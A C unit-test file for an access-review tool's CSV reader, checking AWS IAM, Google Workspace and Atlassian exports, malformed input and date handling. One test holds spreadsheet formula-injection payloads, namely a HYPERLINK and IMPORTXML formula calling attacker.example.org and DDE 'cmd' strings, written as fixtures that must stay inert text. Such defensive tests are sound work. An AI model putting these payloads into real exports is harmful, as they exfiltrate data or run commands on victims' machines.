/* test_csv.c -- unit tests of the CSV export reader and its presets */
/* SPDX-License-Identifier: MIT */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "accessreview/mem.h"
#include "accessreview/sources.h"
#include "accessreview/text.h"
#include "support/export_sink.h"
#include "sources/presets.h"

#define FORMATS TEST_DATA "/formats/csv/"
#define BAD TEST_DATA "/formats/bad/"
#define OWN TEST_DATA "/csv/"

static void read_csv(struct run *run, const char *path, enum source_role role,
		     const char *preset, const struct field_mapping *fields,
		     size_t field_count)
{
	export_read(run, SOURCE_FORMAT_CSV, path, role, preset, fields, field_count);
}

/* ---- presets on the sample exports ---- */

static void test_aws_credential_report(void **state)
{
	struct run run;
	const char *root_arn = "arn:aws:iam::111122223333:root";
	const struct seen_account *a;

	(void)state;
	read_csv(&run, FORMATS "aws-iam-credential-report.csv",
		 SOURCE_ROLE_ACCOUNTS, NULL, NULL, 0);
	assert_int_equal(run.rc, AR_OK);
	assert_string_equal(run.summary.detected_preset, "aws-iam");
	assert_int_equal(run.summary.records, 8);
	assert_int_equal(run.summary.declared, -1);
	assert_string_equal(run.summary.incomplete, "");
	assert_int_equal(run.seen.account_count, 8);

	a = account(&run.seen, root_arn);
	assert_string_equal(a->login, "<root_account>");
	assert_int_equal(a->active, 1);
	assert_int_equal(a->mfa, MFA_ENABLED);
	assert_int_equal(a->last_login, at("2026-04-02T17:45:09Z"));
	assert_int_equal(a->is_service, 0);
	assert_null_string(a->email);
	assert_int_equal(run.seen.group_count, 1);
	assert_string_equal(group(&run.seen, "root")->name, "root");
	assert_int_equal(group(&run.seen, "root")->privileged, 1);
	assert_int_equal(run.seen.member_count, 1);
	assert_true(is_member(&run.seen, "root", root_arn));

	a = account(&run.seen, "arn:aws:iam::111122223333:user/amara.okafor");
	assert_string_equal(a->login, "amara.okafor");
	assert_int_equal(a->mfa, MFA_ENABLED);
	assert_int_equal(a->last_login, at("2026-11-18T07:58:31Z"));

	/* key used after the password: last use is the key's */
	a = account(&run.seen,
		    "arn:aws:iam::111122223333:user/platform/daniel.moreau");
	assert_int_equal(a->mfa, MFA_DISABLED);
	assert_int_equal(a->last_login, at("2026-11-19T14:15:00Z"));
	a = account(&run.seen,
		    "arn:aws:iam::111122223333:user/support/tom.becker");
	assert_int_equal(a->last_login, at("2026-11-14T03:22:00Z"));

	/* key-only: MFA does not apply, a service account */
	a = account(&run.seen,
		    "arn:aws:iam::111122223333:user/service/ci-deploy");
	assert_int_equal(a->active, 1);
	assert_int_equal(a->mfa, MFA_NOT_APPLICABLE);
	assert_int_equal(a->is_service, 1);
	assert_int_equal(a->last_login, at("2026-11-20T05:01:00Z"));

	/* no_information is unknown, not a date */
	a = account(&run.seen,
		    "arn:aws:iam::111122223333:user/platform/oliver.grant");
	assert_int_equal(a->active, 1);
	assert_int_equal(a->mfa, MFA_DISABLED);
	assert_int_equal(a->last_login, 0);
	assert_int_equal(a->is_service, 0);

	a = account(&run.seen, "arn:aws:iam::111122223333:user/legacy-reports");
	assert_int_equal(a->is_service, 1);
	assert_int_equal(a->mfa, MFA_NOT_APPLICABLE);
	assert_int_equal(a->last_login, at("2024-12-30T06:00:00Z"));
	free_seen(&run.seen);
}

static void test_aws_bad_date_emits_nothing(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, OWN "aws-bad-date.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 NULL, 0);
	expect_failure(&run, AR_ERR_DATA,
		       OWN "aws-bad-date.csv:3: 'yesterday' in column "
			   "'password_last_used' is not a date (no known "
			   "date form matches)");
	free_seen(&run.seen);
}

static void test_google_workspace(void **state)
{
	struct run run;
	const struct seen_account *a;

	(void)state;
	read_csv(&run, FORMATS "google-workspace-users.csv",
		 SOURCE_ROLE_ACCOUNTS, NULL, NULL, 0);
	assert_int_equal(run.rc, AR_OK);
	assert_string_equal(run.summary.detected_preset, "google-workspace");
	assert_int_equal(run.summary.records, 8);
	assert_int_equal(run.seen.account_count, 8);
	assert_int_equal(run.seen.group_count, 0);

	a = account(&run.seen, "amara.okafor@example.com");
	assert_string_equal(a->login, "amara.okafor@example.com");
	assert_string_equal(a->email, "amara.okafor@example.com");
	assert_string_equal(a->display_name, "Amara Okafor");
	assert_string_equal(a->employee_number, "10001");
	assert_int_equal(a->active, 1);
	assert_int_equal(a->mfa, MFA_ENABLED);
	assert_int_equal(a->last_login, at("2026-11-19T08:41:07Z"));

	a = account(&run.seen, "jose.nunez@example.com");
	assert_string_equal(a->display_name, "Jos\xc3\xa9 N\xc3\xba\xc3\xb1"
					     "ez");
	assert_int_equal(a->mfa, MFA_DISABLED); /* enforced, not enrolled */

	a = account(&run.seen, "tom.becker@example.com");
	assert_int_equal(a->active, 0);
	assert_int_equal(a->last_login, at("2026-10-02T16:58:40Z"));

	a = account(&run.seen, "ines.carvalho@example.com");
	assert_int_equal(a->last_login, -1);

	a = account(&run.seen, "platform-team@example.com");
	assert_null_string(a->employee_number);
	assert_int_equal(a->is_service, 0);

	/* IDs stay text: the leading zero survives */
	a = account(&run.seen, "rachel.vance@example.com");
	assert_string_equal(a->employee_number, "00871");
	assert_int_equal(a->active, 1);
	free_seen(&run.seen);
}

static void test_google_as_directory(void **state)
{
	struct run run;
	const struct seen_person *tom = NULL;

	(void)state;
	read_csv(&run, FORMATS "google-workspace-users.csv",
		 SOURCE_ROLE_DIRECTORY, NULL, NULL, 0);
	assert_int_equal(run.rc, AR_OK);
	assert_int_equal(run.seen.account_count, 0);
	assert_int_equal(run.seen.person_count, 8);
	for (size_t i = 0; i < run.seen.person_count; i++)
		if (strcmp(run.seen.people[i].key,
			   "tom.becker@example.com") == 0)
			tom = &run.seen.people[i];
	assert_non_null(tom);
	assert_string_equal(tom->uid, "tom.becker@example.com");
	assert_string_equal(tom->email, "tom.becker@example.com");
	assert_string_equal(tom->employee_number, "10005");
	assert_int_equal(tom->disabled, 1);
	assert_int_equal(tom->mfa, MFA_ENABLED);
	free_seen(&run.seen);
}

static void test_atlassian(void **state)
{
	struct run run;
	const struct seen_account *a;
	const char *fatima = "712020:0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0";
	const char *sam = "712020:9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d";
	const char *bot = "557058:e1d2c3b4-a596-4788-9a6b-5c4d3e2f1a0b";

	(void)state;
	read_csv(&run, FORMATS "atlassian-users.csv", SOURCE_ROLE_ACCOUNTS,
		 NULL, NULL, 0);
	assert_int_equal(run.rc, AR_OK);
	assert_string_equal(run.summary.detected_preset, "atlassian");
	assert_int_equal(run.seen.account_count, 8);

	/* the BOM is not part of the first column's name or value */
	a = account(&run.seen, fatima);
	assert_string_equal(a->email, "fatima.haddad@example.com");
	assert_string_equal(a->display_name, "Fatima Haddad");
	assert_int_equal(a->last_login, at("2026-11-20"));
	assert_int_equal(a->mfa, MFA_UNKNOWN);
	assert_true(is_member(&run.seen, "site-admins", fatima));
	assert_true(is_member(&run.seen,
			      "jira-servicemanagement-users-flowdence",
			      fatima));

	a = account(&run.seen, "5c8f21a0b7d4e3f2a1b0c9d8");
	assert_string_equal(a->display_name, "Okafor, Amara");
	assert_int_equal(a->last_login, at("2026-11-18"));

	/* a bare LF inside quotes in a CRLF file */
	a = account(&run.seen, sam);
	assert_string_equal(a->display_name, "Sam Whitford\n(contractor)");
	assert_string_equal(a->email, "SAM.WHITFORD@EXAMPLE.ORG");
	assert_int_equal(a->last_login, at("2026-09-23"));

	a = account(&run.seen, "712020:2d3e4f5a-6b7c-4d8e-9f0a-1b2c3d4e5f6a");
	assert_int_equal(a->active, 0);

	a = account(&run.seen, bot);
	assert_string_equal(a->display_name, "Automation for Jira");
	assert_null_string(a->email);
	assert_null_string(a->login);
	assert_int_equal(a->is_service, 0);
	assert_int_equal(a->last_login, -1);

	assert_int_equal(run.seen.group_count, 5);
	assert_int_equal(group(&run.seen, "site-admins")->privileged, 1);
	assert_int_equal(group(&run.seen, "jira-admins-flowdence")->privileged,
			 0);
	assert_int_equal(run.seen.member_count, 14);
	assert_true(is_member(&run.seen, "jira-admins-flowdence",
			      "712020:4f5a6b7c-8d9e-4f0a-9b1c-3d4e5f6a7b8c"));
	free_seen(&run.seen);
}

static void test_atlassian_groups_role(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, FORMATS "atlassian-users.csv", SOURCE_ROLE_GROUPS, NULL,
		 NULL, 0);
	assert_int_equal(run.rc, AR_OK);
	assert_int_equal(run.seen.account_count, 0);
	assert_int_equal(run.seen.group_count, 5);
	assert_int_equal(run.seen.member_count, 14);
	free_seen(&run.seen);
}

static void test_aws_mfa_role(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, FORMATS "aws-iam-credential-report.csv",
		 SOURCE_ROLE_MFA, NULL, NULL, 0);
	assert_int_equal(run.rc, AR_OK);
	assert_int_equal(run.seen.account_count, 0);
	assert_int_equal(run.seen.mfa_count, 8);
	assert_string_equal(run.seen.mfas[0].first,
			    "arn:aws:iam::111122223333:root");
	assert_int_equal(run.seen.mfas[0].mfa, MFA_ENABLED);
	assert_int_equal(run.summary.has_unlisted_mfa, 0);
	free_seen(&run.seen);
}

/* ---- hostile and broken input ---- */

static void test_invalid_utf8(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, BAD "invalid-utf8.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 NULL, 0);
	expect_failure(&run, AR_ERR_DATA,
		       BAD "invalid-utf8.csv:3: invalid UTF-8");
	free_seen(&run.seen);
}

static void test_formula_injection_is_text(void **state)
{
	struct run run;
	const char *base = "712020:aa11bb22-cc33-4d44-8e55-ff66778899";
	char id[64];

	(void)state;
	read_csv(&run, BAD "formula-injection.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 NULL, 0);
	assert_int_equal(run.rc, AR_OK);
	assert_int_equal(run.seen.account_count, 6);
	snprintf(id, sizeof(id), "%s00", base);
	assert_string_equal(account(&run.seen, id)->display_name,
			    "=HYPERLINK(\"https://attacker.example.org/"
			    "c?d=\"&C2,\"Open profile\")");
	snprintf(id, sizeof(id), "%s01", base);
	assert_string_equal(account(&run.seen, id)->display_name,
			    "+SUM(1+1)*cmd|' /C calc'!A0");
	snprintf(id, sizeof(id), "%s02", base);
	assert_string_equal(account(&run.seen, id)->display_name,
			    "-2+3+cmd|' /C calc'!A0");
	snprintf(id, sizeof(id), "%s03", base);
	assert_string_equal(account(&run.seen, id)->display_name,
			    "@SUM(1+1)*cmd|' /C calc'!A0");
	snprintf(id, sizeof(id), "%s04", base);
	assert_string_equal(account(&run.seen, id)->display_name, "\t=1+2");
	snprintf(id, sizeof(id), "%s05", base);
	assert_string_equal(account(&run.seen, id)->email, "=1+2@example.org");
	/* Atlassian splits its group cell at commas */
	assert_true(is_member(&run.seen,
			      "=IMPORTXML(\"https://attacker.example.org/x\"",
			      id));
	assert_true(is_member(&run.seen, "\"//a\")", id));
	free_seen(&run.seen);
}

static void test_wrong_field_count(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, OWN "wrong-field-count.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 NULL, 0);
	expect_failure(&run, AR_ERR_DATA,
		       OWN "wrong-field-count.csv:3: 9 fields where the "
			   "header has 10");
	free_seen(&run.seen);
}

static void test_line_numbers_after_quoted_newlines(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, OWN "multiline-bad-status.csv", SOURCE_ROLE_ACCOUNTS,
		 NULL, NULL, 0);
	expect_failure(&run, AR_ERR_DATA,
		       OWN "multiline-bad-status.csv:6: 'Retired' in column "
			   "'User status' is not Active or Inactive");
	free_seen(&run.seen);
}

static void test_malformed_quote(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, OWN "malformed-quote.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 NULL, 0);
	assert_int_equal(run.rc, AR_ERR_DATA);
	assert_non_null(strstr(run.err.message,
			       OWN "malformed-quote.csv:3: malformed CSV"));
	assert_int_equal(emitted(&run.seen), 0);
	free_seen(&run.seen);

	read_csv(&run, OWN "unterminated-quote.csv", SOURCE_ROLE_ACCOUNTS,
		 NULL, NULL, 0);
	expect_failure(&run, AR_ERR_DATA,
		       OWN "unterminated-quote.csv:3: quoted field not closed "
			   "at the end of the file");
	free_seen(&run.seen);
}

static void test_unrecognised_header(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, OWN "unknown-header.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 NULL, 0);
	expect_failure(&run, AR_ERR_DATA,
		       OWN "unknown-header.csv: unrecognised export (no "
			   "preset matches the header; set preset = or "
			   "field.* keys)");
	free_seen(&run.seen);
}

static void test_forced_preset_that_does_not_fit(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, FORMATS "google-workspace-users.csv",
		 SOURCE_ROLE_ACCOUNTS, "aws-iam", NULL, 0);
	expect_failure(&run, AR_ERR_DATA,
		       FORMATS "google-workspace-users.csv:1: not an AWS IAM "
			       "credential report (its 22-column header "
			       "differs)");
	free_seen(&run.seen);

	read_csv(&run, FORMATS "atlassian-users.csv", SOURCE_ROLE_ACCOUNTS,
		 "google-workspace", NULL, 0);
	expect_failure(&run, AR_ERR_DATA,
		       FORMATS "atlassian-users.csv:1: no column 'Email "
			       "Address [Required]' for preset "
			       "google-workspace");
	free_seen(&run.seen);

	read_csv(&run, FORMATS "atlassian-users.csv", SOURCE_ROLE_ACCOUNTS,
		 "gitlab", NULL, 0);
	expect_failure(&run, AR_ERR_CONFIG,
		       FORMATS "atlassian-users.csv: preset 'gitlab' reads "
			       "JSON exports, not CSV");
	free_seen(&run.seen);

	read_csv(&run, FORMATS "atlassian-users.csv", SOURCE_ROLE_ACCOUNTS,
		 "okta", NULL, 0);
	expect_failure(&run, AR_ERR_CONFIG,
		       FORMATS "atlassian-users.csv: unknown preset 'okta'");
	free_seen(&run.seen);
}

static void test_forced_preset_that_fits(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, FORMATS "atlassian-users.csv", SOURCE_ROLE_ACCOUNTS,
		 "atlassian", NULL, 0);
	assert_int_equal(run.rc, AR_OK);
	assert_string_equal(run.summary.detected_preset, "atlassian");
	assert_int_equal(run.seen.account_count, 8);
	free_seen(&run.seen);
}

static void test_empty_files(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, OWN "header-only.csv", SOURCE_ROLE_ACCOUNTS, NULL, NULL,
		 0);
	assert_int_equal(run.rc, AR_OK);
	assert_string_equal(run.summary.detected_preset, "google-workspace");
	assert_int_equal(run.summary.records, 0);
	assert_int_equal(emitted(&run.seen), 0);
	free_seen(&run.seen);

	read_csv(&run, OWN "empty.csv", SOURCE_ROLE_ACCOUNTS, NULL, NULL, 0);
	expect_failure(&run, AR_ERR_DATA, OWN "empty.csv: empty export");
	free_seen(&run.seen);

	read_csv(&run, OWN "blank-lines.csv", SOURCE_ROLE_ACCOUNTS, NULL, NULL,
		 0);
	expect_failure(&run, AR_ERR_DATA,
		       OWN "blank-lines.csv: empty export");
	free_seen(&run.seen);
}

static void test_missing_file(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, OWN "no-such-file.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 NULL, 0);
	assert_int_equal(run.rc, AR_ERR_NOINPUT);
	assert_non_null(strstr(run.err.message, "no-such-file.csv"));
	assert_int_equal(emitted(&run.seen), 0);
	free_seen(&run.seen);
}

static void test_duplicate_id_warns(void **state)
{
	struct run run;

	(void)state;
	read_csv(&run, OWN "duplicate-id.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 NULL, 0);
	assert_int_equal(run.rc, AR_OK);
	assert_int_equal(run.summary.records, 2);
	assert_int_equal(run.seen.account_count, 2);
	assert_string_equal(account(&run.seen, "u1")->display_name, "One");
	assert_int_equal(run.seen.warning_count, 1);
	assert_string_equal(run.seen.warnings[0],
			    OWN "duplicate-id.csv:3: duplicate id 'u1', kept "
				"the first");
	/* the skipped row's group is not granted */
	assert_int_equal(run.seen.group_count, 1);
	free_seen(&run.seen);
}

/* A field over the 1 MiB cap is refused without reading it whole. */
static void test_huge_field(void **state)
{
	char path[] = "/tmp/test_csv_XXXXXX";
	int fd = mkstemp(path);
	FILE *file;
	struct run run;
	char message[128];

	(void)state;
	assert_true(fd >= 0);
	file = fdopen(fd, "w");
	assert_non_null(file);
	fputs("User id,User name,email,User status\nu1,\"", file);
	for (int i = 0; i < 2 * 1024 * 1024; i++)
		putc('x', file);
	fputs("\",a@example.com,Active\n", file);
	fclose(file);
	read_csv(&run, path, SOURCE_ROLE_ACCOUNTS, NULL, NULL, 0);
	snprintf(message, sizeof(message),
		 "%s:2: field longer than 1048576 bytes", path);
	expect_failure(&run, AR_ERR_DATA, message);
	free_seen(&run.seen);
	unlink(path);
}

static void test_hostile_value_in_message(void **state)
{
	struct run run;

	(void)state;
	/* terminal escape sequences in a cell never reach the message */
	read_csv(&run, OWN "escape-in-status.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 NULL, 0);
	expect_failure(&run, AR_ERR_DATA,
		       OWN "escape-in-status.csv:2: '?[2J?[31mActive' in "
			   "column 'User status' is not Active or Inactive");
	free_seen(&run.seen);
}

static void test_excerpt(void **state)
{
	char out[12];
	char tiny[4];

	(void)state;
	assert_string_equal(preset_excerpt(out, sizeof(out), "plain"),
			    "plain");
	assert_string_equal(preset_excerpt(out, sizeof(out), "a\tb\nc\x7f"),
			    "a?b?c?");
	/* 7 bytes + "..." fit; the 2-byte e-acute is not cut in half */
	assert_string_equal(preset_excerpt(out, sizeof(out),
					   "abcdef\xc3\xa9ghijkl"),
			    "abcdef\xc3\xa9...");
	assert_string_equal(preset_excerpt(out, sizeof(out),
					   "abcdefg\xc3\xa9hijkl"),
			    "abcdefg...");
	assert_string_equal(preset_excerpt(tiny, sizeof(tiny), "abcdef"),
			    "...");
}

/* ---- generic mapping ---- */

static const struct field_mapping generic_fields[] = {
	{ "login", "Login" },        { "email", "Mail" },
	{ "name", "Full name" },     { "active", "Enabled" },
	{ "mfa", "Two factor" },     { "last-login", "Last login" },
	{ "groups", "Roles" },       { "employee-number", "Badge" },
};

static void test_generic_mapping(void **state)
{
	struct run run;
	const struct seen_account *a;
	size_t count = sizeof(generic_fields) / sizeof(generic_fields[0]);

	(void)state;
	read_csv(&run, OWN "generic-users.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 generic_fields, count);
	assert_int_equal(run.rc, AR_OK);
	assert_string_equal(run.summary.detected_preset, "");
	assert_int_equal(run.seen.account_count, 3);

	a = account(&run.seen, "alice");
	assert_string_equal(a->login, "alice");
	assert_string_equal(a->email, "alice@example.com");
	assert_string_equal(a->display_name, "Alice Example");
	assert_string_equal(a->employee_number, "00042");
	assert_int_equal(a->active, 1);
	assert_int_equal(a->mfa, MFA_ENABLED);
	assert_int_equal(a->last_login, at("2026-11-19T08:00:00Z"));
	assert_true(is_member(&run.seen, "admins", "alice"));
	assert_true(is_member(&run.seen, "developers", "alice"));

	a = account(&run.seen, "bob");
	assert_null_string(a->email);
	assert_int_equal(a->active, 0);
	assert_int_equal(a->mfa, MFA_DISABLED);
	assert_int_equal(a->last_login, -1);

	a = account(&run.seen, "ci-bot");
	assert_null_string(a->display_name);
	assert_int_equal(a->mfa, MFA_UNKNOWN);
	assert_int_equal(a->last_login, 0);
	assert_int_equal(run.seen.group_count, 2);
	assert_int_equal(run.seen.member_count, 3);
	free_seen(&run.seen);
}

/* ---- dates (src/util/date.c) through the generic mapping ---- */

static const struct field_mapping date_fields[] = {
	{ "login", "Login" },
	{ "last-login", "Last login" },
};

static void read_dates(struct run *run, const struct date_options *dates)
{
	export_read_dates(run, SOURCE_FORMAT_CSV, OWN "generic-dates.csv",
			  SOURCE_ROLE_ACCOUNTS, date_fields,
			  sizeof(date_fields) / sizeof(date_fields[0]), dates);
}

static void test_generic_dates(void **state)
{
	static const char *const at_14_02_11[] = {
		"iso", "fraction", "day-first-name", "year-slash",
		"day-first-slash", "generalized",
	};
	static const char *const never[] = {
		"never-accessed", "not-applicable", "dash", "null",
	};
	struct date_options dmy = { DATE_ORDER_DMY, 0, NULL };
	struct date_options mdy = { DATE_ORDER_MDY, 3600, NULL };
	struct run run;

	(void)state;
	/* 05/11/2026 could be either: with strict = yes refused without
	 * an order ... */
	export_strict = 1;
	read_dates(&run, NULL);
	export_strict = 0;
	expect_failure(&run, AR_ERR_DATA,
		       OWN "generic-dates.csv:11: '05/11/2026' in column "
			   "'Last login' is not a date (could be 5 November "
			   "or 11 May: no day/month order (dmy or mdy) is "
			   "set)");
	free_seen(&run.seen);
	/* ... else read as an unknown last use, with a warning */
	read_dates(&run, NULL);
	assert_int_equal(run.rc, AR_OK);
	assert_int_equal(run.seen.account_count, 15);
	assert_int_equal(run.seen.warning_count, 1);
	assert_non_null(strstr(run.seen.warnings[0],
			       "generic-dates.csv:11: '05/11/2026' in column "
			       "'Last login' is not a date this tool knows: "
			       "last use unknown"));
	free_seen(&run.seen);

	read_dates(&run, &dmy);
	assert_int_equal(run.rc, AR_OK);
	assert_int_equal(run.seen.account_count, 15);
	for (size_t i = 0; i < sizeof(at_14_02_11) / sizeof(at_14_02_11[0]);
	     i++)
		assert_int_equal(account(&run.seen, at_14_02_11[i])->last_login,
				 at("2026-11-20T14:02:11Z"));
	assert_int_equal(account(&run.seen, "offset")->last_login,
			 at("2026-11-20T13:02:11Z"));
	assert_int_equal(account(&run.seen, "month-first-name")->last_login,
			 at("2026-11-20T00:00:00Z"));
	/* 20 is no month: month first whatever the order */
	assert_int_equal(account(&run.seen, "month-first-slash")->last_login,
			 at("2026-11-20T00:00:00Z"));
	assert_int_equal(account(&run.seen, "ambiguous")->last_login,
			 at("2026-11-05T00:00:00Z"));
	for (size_t i = 0; i < sizeof(never) / sizeof(never[0]); i++)
		assert_int_equal(account(&run.seen, never[i])->last_login, -1);
	assert_int_equal(account(&run.seen, "empty")->last_login, 0);
	free_seen(&run.seen);

	/* month first, and zone-less values at UTC+01:00 */
	read_dates(&run, &mdy);
	assert_int_equal(run.rc, AR_OK);
	assert_int_equal(account(&run.seen, "ambiguous")->last_login,
			 at("2026-05-10T23:00:00Z"));
	assert_int_equal(account(&run.seen, "day-first-name")->last_login,
			 at("2026-11-20T13:02:11Z"));
	/* a zone in the value wins over the offset */
	assert_int_equal(account(&run.seen, "iso")->last_login,
			 at("2026-11-20T14:02:11Z"));
	assert_int_equal(account(&run.seen, "offset")->last_login,
			 at("2026-11-20T13:02:11Z"));
	free_seen(&run.seen);
}

static void test_generic_mapping_errors(void **state)
{
	static const struct field_mapping missing[] = {
		{ "login", "Login" }, { "email", "E-mail" },
	};
	static const struct field_mapping unknown[] = {
		{ "login", "Login" }, { "colour", "Department" },
	};
	static const struct field_mapping no_key[] = {
		{ "name", "Full name" },
	};
	struct run run;

	(void)state;
	read_csv(&run, OWN "generic-users.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 missing, 2);
	expect_failure(&run, AR_ERR_DATA,
		       OWN "generic-users.csv:1: no column 'E-mail' (mapped "
			   "by a field.* key)");
	free_seen(&run.seen);

	read_csv(&run, OWN "generic-users.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 unknown, 2);
	expect_failure(&run, AR_ERR_CONFIG,
		       OWN "generic-users.csv: unknown field 'field.colour'");
	free_seen(&run.seen);

	read_csv(&run, OWN "generic-users.csv", SOURCE_ROLE_ACCOUNTS, NULL,
		 no_key, 1);
	expect_failure(&run, AR_ERR_CONFIG,
		       OWN "generic-users.csv: field mapping names no "
			   "field.id, field.login or field.email");
	free_seen(&run.seen);

	/* a preset found in the header wins over the mapping */
	read_csv(&run, FORMATS "atlassian-users.csv", SOURCE_ROLE_ACCOUNTS,
		 NULL, generic_fields, 1);
	assert_int_equal(run.rc, AR_OK);
	assert_string_equal(run.summary.detected_preset, "atlassian");
	free_seen(&run.seen);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_aws_credential_report),
		cmocka_unit_test(test_aws_bad_date_emits_nothing),
		cmocka_unit_test(test_google_workspace),
		cmocka_unit_test(test_google_as_directory),
		cmocka_unit_test(test_atlassian),
		cmocka_unit_test(test_atlassian_groups_role),
		cmocka_unit_test(test_aws_mfa_role),
		cmocka_unit_test(test_invalid_utf8),
		cmocka_unit_test(test_formula_injection_is_text),
		cmocka_unit_test(test_wrong_field_count),
		cmocka_unit_test(test_line_numbers_after_quoted_newlines),
		cmocka_unit_test(test_malformed_quote),
		cmocka_unit_test(test_unrecognised_header),
		cmocka_unit_test(test_forced_preset_that_does_not_fit),
		cmocka_unit_test(test_forced_preset_that_fits),
		cmocka_unit_test(test_empty_files),
		cmocka_unit_test(test_missing_file),
		cmocka_unit_test(test_duplicate_id_warns),
		cmocka_unit_test(test_huge_field),
		cmocka_unit_test(test_hostile_value_in_message),
		cmocka_unit_test(test_excerpt),
		cmocka_unit_test(test_generic_mapping),
		cmocka_unit_test(test_generic_dates),
		cmocka_unit_test(test_generic_mapping_errors),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
